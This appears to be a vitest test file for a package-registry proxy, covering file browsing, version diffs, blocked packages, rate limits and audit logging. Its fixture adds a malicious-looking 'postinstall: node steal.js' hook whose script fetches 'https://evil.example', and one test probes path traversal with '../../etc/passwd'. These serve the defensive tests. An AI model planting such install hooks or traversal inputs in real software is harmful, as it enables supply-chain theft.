import {
  createFakeUpstream,
  startTestApp,
  type FakeUpstream,
  type Persona,
  type TestApp,
  type TestResponse,
} from "@entrepot/testkit";
import { afterAll, beforeAll, expect, it, vi } from "vitest";

let app: TestApp;
let upstream: FakeUpstream;
let ada: Persona;

const LONG = Array.from({ length: 100 }, (_, at) => `line ${at}`);

beforeAll(async () => {
  upstream = await createFakeUpstream();
  app = await startTestApp({ upstream: upstream.url });
  ada = await app.as("ada");
  upstream.publish({
    name: "left",
    version: "1.0.0",
    manifest: { license: "MIT", scripts: { test: "true" }, dependencies: { pad: "^1.0.0" } },
    files: {
      "index.js": LONG.join("\n"),
      "gone.txt": "bye\n",
      "logo.png": Buffer.from([0x89, 0x50, 0, 1]),
      "same.md": "# same\n",
    },
  });
  upstream.publish({
    name: "left",
    version: "1.1.0",
    manifest: {
      license: "ISC",
      scripts: { test: "true", postinstall: "node steal.js" },
      dependencies: { pad: "^2.0.0" },
    },
    files: {
      "index.js": LONG.with(50, "another line").join("\n"),
      "steal.js": "fetch('https://evil.example');\n",
      "logo.png": Buffer.from([0x89, 0x50, 0, 2]),
      "same.md": "# same\n",
      "big.txt": "x".repeat(700_000),
    },
  });
  await ada.publish({ name: "user", version: "1.0.0", manifest: { dependencies: { left: "1" } } });
  await ada.publish({ name: "peer", version: "1.0.0", manifest: { peerDependencies: { left: "*" } } });
  await ada.publish({ name: "tester", version: "1.0.0", manifest: { devDependencies: { left: "*" } } });
});
afterAll(async () => {
  await app.close();
  await upstream.close();
});

const get = (who: Persona, path: string): Promise<TestResponse> =>
  who.request(`/api/v1/registries/default/packages/${path}`);

it("the files of a version are listed in pages", async () => {
  const first = await get(ada, "left/versions/1.0.0/files?limit=3");
  expect([first.status, first.json]).toEqual([
    200,
    {
      items: [
        { path: "gone.txt", sizeBytes: 4 },
        { path: "index.js", sizeBytes: LONG.join("\n").length },
        { path: "logo.png", sizeBytes: 4 },
      ],
      next: "logo.png",
      fileCount: 5,
      unpackedSizeBytes: expect.any(Number),
    },
  ]);
  const rest = await get(ada, "left/versions/1.0.0/files?limit=3&cursor=logo.png");
  expect((rest.json["items"] as { path: string }[]).map(({ path }) => path)).toEqual([
    "package.json",
    "same.md",
  ]);
  expect(rest.json["next"]).toBeNull();
  const found = await get(ada, "left/versions/1.0.0/files?query=.js");
  expect((found.json["items"] as unknown[]).length).toBe(2);
});

it("the text of a file is shown, of a long one the beginning, of what is no text none", async () => {
  const file = (path: string): Promise<TestResponse> => get(ada, `left/versions/1.1.0/file?path=${path}`);
  expect((await file("steal.js")).json).toEqual({
    version: "1.1.0",
    path: "steal.js",
    sizeBytes: 31,
    text: "fetch('https://evil.example');\n",
    isCut: false,
  });
  const big = (await file("big.txt")).json;
  expect([String(big["text"]).length, big["isCut"], big["sizeBytes"]]).toEqual([512 * 1024, true, 700_000]);
  expect((await file("logo.png")).json["text"]).toBeNull();
  expect((await file("absent.js")).status).toBe(404);
  expect((await file("../../etc/passwd")).status).toBe(404);
  expect((await file("")).status).toBe(400);
});

it("two versions are compared by files, lines and what package.json says", async () => {
  const { status, json } = await get(ada, "left/diff?from=1.0.0&to=1.1.0");
  expect(status).toBe(200);
  const files = json["files"] as { path: string; status: string; patch: string | null }[];
  expect(files.map(({ path, status: how }) => `${how} ${path}`)).toEqual([
    "added big.txt",
    "removed gone.txt",
    "changed index.js",
    "changed logo.png",
    "changed package.json",
    "added steal.js",
  ]);
  const patchOf = (path: string): string => files.find((one) => one.path === path)?.patch ?? "none";
  expect(patchOf("index.js")).toContain("\n-line 50\n+another line\n");
  expect(patchOf("index.js")).not.toContain("line 20");
  expect(patchOf("steal.js")).toContain("+fetch('https://evil.example');");
  expect(patchOf("gone.txt")).toContain("-bye");
  expect([patchOf("logo.png"), patchOf("big.txt")]).toEqual(["none", "none"]);
  expect(json).toMatchObject({
    from: { version: "1.0.0", licence: "MIT" },
    to: { version: "1.1.0", licence: "ISC" },
    changedCount: 6,
    unchangedCount: 1,
  });
  expect(json["manifest"]).toEqual(
    expect.arrayContaining([
      { member: "scripts.postinstall", before: null, after: '"node steal.js"' },
      { member: "dependencies.pad", before: '"^1.0.0"', after: '"^2.0.0"' },
      { member: "license", before: '"MIT"', after: '"ISC"' },
    ]),
  );
  expect((await get(ada, "left/diff?from=1.0.0")).status).toBe(400);
  expect((await get(ada, "left/diff?from=1.0.0&to=9.9.9")).status).toBe(404);
});

it("nobody but a manager looks into what policy refuses, and nothing is fetched for it", async () => {
  upstream.publish({ name: "bad", version: "1.0.0", files: { "x.js": "1" } });
  upstream.publish({ name: "bad", version: "2.0.0", files: { "x.js": "2" } });
  expect((await get(ada, "bad/versions/1.0.0/files")).status).toBe(200);
  const path = "/api/v1/registries/default/packages/bad/versions/*/status";
  await app.admin.request(path, { method: "PUT", body: { status: "blocked", reason: "odd" } });
  for (const what of ["versions/1.0.0/files", "versions/1.0.0/file?path=x.js", "diff?from=1.0.0&to=1.0.0"]) {
    const { status, json } = await get(ada, `bad/${what}`);
    expect([what, status, json["error"]]).toEqual([what, 403, expect.stringContaining("is blocked")]);
    expect([what, (await get(app.admin, `bad/${what}`)).status]).toEqual([what, 200]);
  }
  expect((await get(app.admin, "bad/versions/2.0.0/files")).status).toBe(403);
  expect(upstream.count("bad/-/bad-2.0.0.tgz")).toBe(0);
});

it("who looks into many tarballs at once is told to wait", async () => {
  const paths = Array.from({ length: 40 }, (_, at) => `left/versions/1.${at % 2}.0/file?path=index.js`);
  const answers = await Promise.all(paths.map((path) => get(ada, path)));
  const statuses = [...new Set(answers.map(({ status }) => status))].sort((one, other) => one - other);
  expect(statuses).toEqual([200, 503]);
  expect(answers.find(({ status }) => status === 503)?.headers["retry-after"]).toBe("10");
  expect((await get(ada, paths[0] ?? "")).status).toBe(200);
});

it("what was shown and what was refused is in the decision log, and no look is a download", async () => {
  for (const version of ["1.0.0", "1.1.0"]) upstream.publish({ name: "logged", version });
  const eve = await app.as("eve");
  const downloads = async (): Promise<unknown> => (await get(eve, "logged/downloads")).json;
  const before = await downloads();
  for (const what of ["versions/1.0.0/files", "versions/1.0.0/file?path=package.json"]) {
    expect((await get(eve, `logged/${what}`)).status).toBe(200);
  }
  expect((await get(eve, "logged/diff?from=1.0.0&to=1.1.0")).status).toBe(200);
  expect(await downloads()).toEqual(before);
  const path = "/api/v1/registries/default/packages/logged/versions/1.1.0/status";
  await app.admin.request(path, { method: "PUT", body: { status: "blocked", reason: "odd" } });
  expect((await get(eve, "logged/versions/1.1.0/files")).status).toBe(403);
  const pull = "/api/v1/registries/default/packages/logged/versions/1.1.0/pull";
  expect((await eve.request(pull, { method: "POST" })).status).toBe(403);
  await vi.waitFor(
    async () => {
      const { json } = await app.admin.request("/api/v1/decisions?package=logged&principal=eve");
      const rows = json["items"] as Record<string, unknown>[];
      expect(
        rows.map(({ outcome, purpose, version, rule }) => [outcome, purpose, version, rule].join(" ")).sort(),
      ).toEqual([
        "refused look 1.1.0 operator-status",
        "refused tarball 1.1.0 operator-status",
        "served look 1.0.0 ",
        "served look 1.1.0 ",
      ]);
    },
    { timeout: 10_000 },
  );
});

it("who may not download looks into nothing", async () => {
  const reader = await app.as("reader", "read-only");
  for (const what of [
    "versions/1.0.0/files",
    "versions/1.0.0/file?path=index.js",
    "diff?from=1.0.0&to=1.1.0",
  ]) {
    expect((await get(reader, `left/${what}`)).status).toBe(403);
  }
});

it("dependents are those whose latest version needs the package where it is installed", async () => {
  const { json } = await get(ada, "left/dependents");
  expect((json["items"] as { name: string }[]).map(({ name }) => name)).toEqual(["peer", "user"]);
  await ada.publish({ name: "user", version: "2.0.0" });
  const later = (await get(ada, "left/dependents")).json;
  expect((later["items"] as { name: string }[]).map(({ name }) => name)).toEqual(["peer"]);
});
